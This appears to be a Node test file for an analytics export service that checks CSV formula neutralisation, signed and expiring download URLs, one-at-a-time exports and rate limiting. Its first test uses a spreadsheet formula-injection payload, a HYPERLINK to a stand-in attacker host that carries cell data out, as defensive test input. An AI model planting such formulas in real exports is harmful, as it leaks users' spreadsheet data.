import assert from 'node:assert/strict';
import { test } from 'node:test';
import Papa from 'papaparse';
import { analyticsExports } from '../../../src/repositories/analytics/export';
import { analyticsFigures } from '../../../src/repositories/analytics/figures';
import { EXPORT_STARTS_PER_HOUR } from '../../../src/routes/analytics/export';
import { forEachDatabase, json } from '../../helpers';
import { call, createCopy, createProject, expectData } from '../copy/fixtures';
import { account, utcDay } from './fixtures';

/* The analytics export: formulas neutralised, generated and downloaded by its signed url, one at a time, starts rate-limited. */
forEachDatabase(({ db, build }) => {
  test('export: a formula with a line break in it is neutralised too', async (t) => {
    const server = await build(t);
    const owner = await account(server, db(), 'premium');
    const project = await createProject(server, owner, 'Northwind');
    const title = '=HYPERLINK("https://evil.example/?"&B3,\n"Open")';
    const made = await createCopy(server, owner, { projectId: project._id, title });
    expectData(await call(server, owner, 'PATCH', `/copy/${made.id}`, { performance: { views: 10 } }), 200);
    let job = expectData(
      await call(server, owner, 'POST', '/analytics/export', { range: 'week', format: 'csv', tz: 'UTC' }),
      202,
    );
    for (let i = 0; i < 50 && job.state === 'generating'; i += 1) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      job = expectData(await call(server, owner, 'GET', `/analytics/export/${job.id}`), 200);
    }
    assert.equal(job.state, 'completed');
    const file = await server.inject({ url: job.url });
    const parsed = Papa.parse<Record<string, string>>(file.body, { header: true, skipEmptyLines: true });
    assert.equal(parsed.data[0]!.copy, `'${title}`);
  });

  test('export: 202 generating, followed to completed; the signed url downloads without a header; formulas neutralised', async (t) => {
    const server = await build(t);
    const owner = await account(server, db(), 'premium');
    const project = await createProject(server, owner, '=Evil Corp');
    const made = await createCopy(server, owner, { projectId: project._id, title: '+1 for spring' });
    expectData(
      await call(server, owner, 'PATCH', `/copy/${made.id}`, { performance: { views: 120, likes: 3, clicks: 3 } }),
      200,
    );
    const job = expectData(
      await call(server, owner, 'POST', '/analytics/export', { range: 'week', format: 'csv', tz: 'UTC' }),
      202,
    );
    assert.deepEqual(
      { state: job.state, percentage: job.percentage, url: job.url },
      { state: 'generating', percentage: 0, url: null },
    );
    let followed = job;
    for (let i = 0; i < 50 && followed.state === 'generating'; i += 1) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      followed = expectData(await call(server, owner, 'GET', `/analytics/export/${job.id}`), 200);
    }
    assert.equal(followed.state, 'completed');
    assert.equal(followed.percentage, 100);
    assert.equal(followed.filename, `brandcast-analytics-week-${utcDay(0)}.csv`);
    const file = await server.inject({ url: followed.url });
    assert.equal(file.statusCode, 200);
    assert.match(String(file.headers['content-disposition']), /attachment; filename="brandcast-analytics-week-/);
    const parsed = Papa.parse<Record<string, string>>(file.body, { header: true, skipEmptyLines: true });
    assert.deepEqual(parsed.data, [
      {
        date: utcDay(0),
        project: "'=Evil Corp",
        copyId: made.id,
        copy: "'+1 for spring",
        platform: 'linkedin',
        views: '120',
        likes: '3',
        comments: '0',
        shares: '0',
        retweets: '0',
        clicks: '3',
        engagement: '6',
        rate: '5',
      },
    ]);
    // Someone else cannot follow it; a tampered or expired address does not download.
    const other = await account(server, db(), 'premium');
    assert.equal((await call(server, other, 'GET', `/analytics/export/${job.id}`)).statusCode, 404);
    assert.equal(
      (await server.inject({ url: followed.url.replace(/signature=[^&]+/, 'signature=x') })).statusCode,
      403,
    );
    const expired = followed.url.replace(/expires=\d+/, `expires=${Math.floor(Date.now() / 1000) - 1}`);
    assert.equal((await server.inject({ url: expired })).statusCode, 403);
    // JSON: the overview, the days and the same rows.
    const asJson = expectData(
      await call(server, owner, 'POST', '/analytics/export', { range: 'day', format: 'json', tz: 'UTC' }),
      202,
    );
    let done = asJson;
    for (let i = 0; i < 50 && done.state === 'generating'; i += 1) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      done = expectData(await call(server, owner, 'GET', `/analytics/export/${asJson.id}`), 200);
    }
    const body = JSON.parse((await server.inject({ url: done.url })).body);
    assert.equal(body.overview.totalViews, 120);
    assert.equal(body.rows[0].copy, '+1 for spring');
    assert.deepEqual(body.performance, [{ date: utcDay(0), views: 120, engagement: 6, copies: 1, messages: 0 }]);
    const bad = await call(server, owner, 'POST', '/analytics/export', { range: 'week', format: 'xlsx' });
    assert.equal(bad.statusCode, 400);
    assert.match(json(bad).message, /format must be one of: csv, json/);
    // Starting the JSON export removed the CSV one, its file with it.
    assert.equal((await call(server, owner, 'GET', `/analytics/export/${job.id}`)).statusCode, 404);
    assert.equal((await server.inject({ url: followed.url })).statusCode, 404);
    // Kept a day: the sweep removes older exports, anyone's, files included; the newer one stays.
    const others = expectData(
      await call(server, other, 'POST', '/analytics/export', { range: 'week', format: 'csv', tz: 'UTC' }),
      202,
    );
    await db().query("UPDATE analytics_exports SET created_at = now() - interval '25 hours' WHERE id = $1", [
      asJson.id,
    ]);
    assert.equal(await analyticsExports(db(), analyticsFigures(db())).sweep(), 1);
    assert.equal((await call(server, owner, 'GET', `/analytics/export/${asJson.id}`)).statusCode, 404);
    assert.equal((await server.inject({ url: done.url })).statusCode, 404);
    assert.equal((await call(server, other, 'GET', `/analytics/export/${others.id}`)).statusCode, 200);
  });

  test('export: one at a time per account (409 while one runs, a lost one does not block), and starts are rate-limited', async (t) => {
    const server = await build(t);
    const owner = await account(server, db(), 'premium');
    const start = (remoteAddress: string) =>
      server.inject({
        method: 'POST',
        url: '/api/analytics/export',
        remoteAddress,
        headers: { authorization: `Bearer ${owner.token}` },
        payload: { range: 'week', format: 'csv', tz: 'UTC' },
      });
    // An export of this account is running (another instance, or a long one).
    const [running] = await db().query<{ id: string }>(
      "INSERT INTO analytics_exports (user_id, format, range) VALUES ($1, 'csv', 'year') RETURNING id",
      [owner.user.id],
    );
    const refused = await start('203.0.113.71');
    assert.equal(refused.statusCode, 409, refused.body);
    assert.match(json(refused).message, /An export is already running\. Wait for it to finish/);
    // Six at once while it runs: none starts.
    const burst = await Promise.all(Array.from({ length: 6 }, () => start('203.0.113.71')));
    assert.deepEqual(
      burst.map((r) => r.statusCode),
      [409, 409, 409, 409, 409, 409],
    );
    const kept = await db().query<{ count: number }>(
      'SELECT count(*)::int AS count FROM analytics_exports WHERE user_id = $1',
      [owner.user.id],
    );
    assert.equal(kept[0]?.count, 1);
    // A job left generating past thirty minutes (the queue's tries are over, or it was never queued) does not block the next.
    await db().query("UPDATE analytics_exports SET created_at = now() - interval '31 minutes' WHERE id = $1", [
      running!.id,
    ]);
    const next = await start('203.0.113.71');
    assert.equal(next.statusCode, 202, next.body);
    // Starts from one address are limited whatever they answer.
    await db().query(
      "INSERT INTO analytics_exports (user_id, format, range) SELECT $1, 'csv', 'year' WHERE NOT EXISTS (SELECT 1 FROM analytics_exports WHERE user_id = $1 AND state = 'generating')",
      [owner.user.id],
    );
    const answers: number[] = [];
    for (let i = 0; i < EXPORT_STARTS_PER_HOUR; i += 1) answers.push((await start('203.0.113.72')).statusCode);
    assert.ok(
      answers.every((status) => status === 409 || status === 202),
      answers.join(),
    );
    const limited = await start('203.0.113.72');
    assert.equal(limited.statusCode, 429, limited.body);
  });
});
